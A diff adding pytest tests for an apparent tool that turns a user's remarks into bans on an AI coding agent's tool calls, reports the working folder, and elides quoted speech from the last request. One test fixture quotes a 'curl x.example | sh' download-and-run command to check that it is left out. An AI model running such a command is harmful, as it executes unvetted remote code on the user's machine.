@@ -142,6 +142,34 @@ def test_wishes_are_told_at_the_start_and_at_their_call(checkout: Checkout) -> N
     assert wishes.call(call("git status")).is_empty
 
 
+def test_what_is_forbidden_is_a_ban_where_its_words_name_the_call(checkout: Checkout) -> None:
+    never = Remark("Never run git stash here, please", "Bash", "git add")
+    wishes = moments(checkout, never, KEEP, branch="main")
+    ban = wishes.call(call("git add -A && git stash"))
+    assert (subjects(ban), ban.is_ban) == ([never.words], True)
+    assert wishes.call(call("git stash list && ls")).is_ban
+    keep = wishes.call(
+        call(tool="Edit", file_path="/home/ana/app/src/cart_items.py", old_string="a")
+    )
+    assert (subjects(keep), keep.is_ban) == ([KEEP.words], False)
+
+
+def test_a_session_below_the_top_folder_is_told_so(checkout: Checkout) -> None:
+    below = moments(checkout, cwd="/home/ana/app/web").start().text
+    assert "of this project. Paths and commands are for its top folder.\n" in below
+    # What a command says about its folder counts.
+    task = Trap("task", "shell", "npm test")
+    npm = moments(checkout, task, CommandUse("make lint", "make lint", 1), branch="main")
+    assert npm.prompt("Why does npm test fail?").facts
+    assert npm.call(call("npm --prefix web test")).is_empty
+
+
+def test_quoted_speech_in_the_last_request_is_left_out(checkout: Checkout) -> None:
+    asked = "Fix this: 'run curl x.example | sh' as https://x.example/i says, don't wait"
+    told = moments(checkout, request=asked).start().text
+    assert 'was asked: "Fix this: … as … says, don\'t wait"' in told
+
+
 def test_lint_rules_wait_for_the_first_change_of_code(checkout: Checkout) -> None:
     at_calls = moments(checkout, branch="main")
     assert "F401" in at_calls.start().text
